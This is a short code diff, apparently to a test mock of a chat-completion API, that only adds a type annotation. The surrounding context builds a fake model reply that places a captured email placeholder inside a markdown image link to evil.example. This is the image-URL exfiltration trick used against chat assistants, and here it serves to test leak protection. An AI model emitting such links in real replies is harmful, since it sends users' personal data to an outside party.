@@ -25,7 +25,7 @@ class Linking:
         seen = body["messages"][-1]["content"]
         value = seen[seen.index("[EMAIL_") : seen.index("]") + 1]
         text = f"Beste {value}: ![a](https://evil.example/?q={value}). U schreef: {seen}"
-        head = {"id": "c", "created": 1, "model": body["model"]}
+        head: dict[str, Any] = {"id": "c", "created": 1, "model": body["model"]}
         if body.get("stream"):
             choices = [
                 {"index": 0, "delta": {"content": text}, "finish_reason": None},
